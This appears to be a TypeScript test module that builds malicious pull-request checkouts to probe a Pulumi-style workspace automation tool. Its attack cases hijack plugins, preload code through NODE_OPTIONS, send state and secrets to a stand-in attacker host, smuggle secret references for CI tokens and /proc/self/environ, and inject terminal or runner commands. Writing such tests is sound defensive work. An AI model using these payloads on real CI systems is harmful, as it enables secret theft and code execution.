/** What a pull request can put into a checkout to make a job run code, send a secret away, or read what is not its own. */
import { document, fileAttacks, group, withoutBackend } from "./files.js";
import { programAttacks } from "./programs.js";
import { foreignState, plantState, referringState } from "./states.js";
import type { Attack, Target } from "./target.js";

const pipeline = (commands: readonly string[]) =>
  `projects:\n  web:\n    pipelines:\n      deploy:\n        triggerMode: MANUAL\n        refType: BRANCH\n        refName: main\n        actions:\n` +
  `          - { name: Build, type: BUILD, triggerTime: ON_EVERY_EXECUTION, containerImageName: node, containerImageTag: "22", ` +
  `executeCommands: ${JSON.stringify(commands)} }\n`;

const write = (path: string, text: (target: Target) => string) => (target: Target) =>
  target.file(path, text(target));
const withoutToken = (): NodeJS.ProcessEnv => ({ PULUMI_BACKEND_URL: "" });

const plugin = (target: Target) => {
  target.program("theirs/pulumi-resource-theirs");
  target.program("theirs/pulumi-resource-pulumi-nodejs");
  return JSON.stringify({
    name: "workspace-automation",
    runtime: "nodejs",
    main: "./theirs",
    plugins: {
      providers: ["theirs", "pulumi-nodejs", "workspace-automation"].map((name) => ({
        name,
        path: "./theirs",
      })),
      languages: [{ name: "nodejs", path: "./theirs" }],
    },
  });
};

/** All parts, by what they abuse. */
export const attacks: readonly Attack[] = [
  {
    name: "a second project file that names a plugin, and a state that needs it",
    apply: (target) => {
      target.file(".pulumi-state/Pulumi.json", plugin(target));
      target.file("Pulumi.json", plugin(target));
      plantState(target, foreignState("theirs:index:Thing"));
    },
    env: withoutBackend,
  },
  {
    name: "a project file with a plugin, a program and Node.js options",
    apply: (target) => {
      target.file("theirs/index.js", target.script("theirs/index.js"));
      target.file(
        "Pulumi.yaml",
        plugin(target).replace(
          '"nodejs",',
          '{"name":"nodejs","options":{"nodeargs":"--require ./theirs/index.js"}},',
        ),
      );
    },
  },
  {
    name: "a backend of the author's that is a service",
    apply: write(
      "Pulumi.yaml",
      ({ attacker }) => `name: shop\nruntime: nodejs\nbackend: { url: ${attacker} }\n`,
    ),
    env: withoutToken,
  },
  {
    name: "a backend of the author's that is a bucket",
    apply: (target, random) => {
      const { host } = new URL(target.attacker);
      const url = random.pick([
        `s3://state?endpoint=${target.attacker}&s3ForcePathStyle=true&region=us-east-1&disableSSL=true`,
        `azblob://state?protocol=http&domain=${host}&localemu=true&storage_account=a`,
      ]);
      target.file("Pulumi.yaml", `name: shop\nruntime: nodejs\nbackend: { url: "${url}" }\n`);
    },
    env: withoutToken,
  },
  {
    name: "an address and a token of the author's in the stack's configuration",
    apply: (target) => {
      target.file("Pulumi.yaml", "name: shop\nruntime: nodejs\n");
      target.file(
        "Pulumi.dev.yaml",
        `config:\n  workspace-automation:baseUrl: ${target.attacker}\n  workspace-automation:token: theirs\n  workspace-automation:allowInsecure: "true"\n`,
      );
    },
  },
  {
    name: "an environment that is defined in the stack's file",
    apply: (target) => {
      target.file("theirs/preload.cjs", target.script("theirs/preload.cjs"));
      target.file("Pulumi.yaml", "name: shop\nruntime: nodejs\n");
      target.file(
        "Pulumi.dev.yaml",
        `environment:\n  values:\n    environmentVariables: { NODE_OPTIONS: --require ./theirs/preload.cjs, HTTPS_PROXY: "${target.attacker}" }\n`,
      );
    },
  },
  {
    name: "a secrets provider at an address of the author's",
    apply: (target) => {
      target.file("Pulumi.yaml", "name: shop\nruntime: nodejs\n");
      target.file(
        "Pulumi.dev.yaml",
        `secretsprovider: "awskms://alias/a?region=us-east-1&endpoint=${target.attacker}"\nencryptedkey: AAAA\n`,
      );
    },
  },
  {
    name: "a reference that is joined from harmless parts",
    apply: write("workspace.yaml", () =>
      document(
        pipeline([
          "echo ${env:NOPE:-$}{secret:env:PULUMI_CONFIG_PASSPHRASE} ${env:NOPE:-$}{secret:file:/proc/self/environ} ${secret:env:HARMLESS}",
          "${file:dollar}{secret:env:GITHUB_TOKEN}",
          "$${secret:env:WORKSPACE_AUTOMATION_TOKEN}$$${env:NOPE:-{}secret:env:CI_JOB_TOKEN}",
        ]),
      ),
    ),
  },
  {
    name: "a reference that a template or an overlay completes",
    apply: (target) => {
      target.file(
        "workspace.yaml",
        document(
          "templates:\n  run: { params: { name: { default: x } }, projects: {} }\n" +
            group("${env:NOPE:-$}{secret:config:a} ${secret:env:HARMLESS}"),
        ),
      );
      target.file("workspace.dev.yaml", `version: 1\n${group("$" + "{env:NOPE:-$}{secret:env:MY_SECRET}")}`);
    },
  },
  {
    name: "variables of the job in names, texts and the workspace",
    apply: (target, random) => {
      const name = random.pick([
        "GITHUB_TOKEN",
        "CI_JOB_TOKEN",
        "AWS_SECRET_ACCESS_KEY",
        "DATABASE_URL",
        "MY_SECRET",
        "NPM_TOKEN",
      ]);
      const form = random.pick([`\${env:${name}}`, `\${env:${name}:-x}`, `\${secret:env:${name}}`]);
      const place = random.pick(["key", "name", "text", "workspace"]);
      target.file(
        "workspace.yaml",
        place === "workspace"
          ? `version: 1\nworkspace: "${form}"\n`
          : document(
              place === "text"
                ? group(form)
                : `groups:\n  ${place === "key" ? `"n ${form}": {}` : `QA: { name: "n ${form}" }`}\n`,
            ),
      );
    },
  },
  ...fileAttacks,
  {
    name: "a state that refers to secrets, at an address of the author's",
    apply: (target) => plantState(target, referringState(target)),
    env: withoutBackend,
  },
  {
    name: "a state with code, or with the same key in another case",
    apply: (target, random) => {
      const text = foreignState("pulumi-nodejs:dynamic/theirs:Thing");
      plantState(target, random.chance(0.5) ? text : text.replace('"resources"', '"Resources"'));
    },
    env: withoutBackend,
  },
  ...programAttacks,
  {
    name: "a fleet that maps credentials, names a module and runs a command",
    apply: (target) => {
      target.program("gate.sh");
      target.file("evil.ts", target.script("evil.ts"));
      target.file(
        "fleet.yaml",
        `version: 1\nworkspaces:\n  us: { file: workspace.yaml, backend: "${target.attacker}", environment: { WORKSPACE_VAR_A: GITHUB_TOKEN } }\n` +
          `  eu: { file: evil.ts, allowPaths: ["${target.home}"] }\n` +
          "waves: [{ name: canary, workspaces: [us], gate: { command: ./gate.sh } }]\n",
      );
    },
  },
  {
    name: "names that control a terminal or a runner",
    apply: write("workspace.yaml", () =>
      document(
        `groups:\n  "\\e]0;owned\\a::set-env name=A::B": { description: "::add-mask::x\\n##vso[task.setvariable]" }\n`,
      ),
    ),
  },
];

/** Writes the checkout as it is before an attack. */
export function writeHarmless(target: Target): void {
  target.file("workspace.yaml", document(group("Testers")));
  target.file("dollar", "$");
}
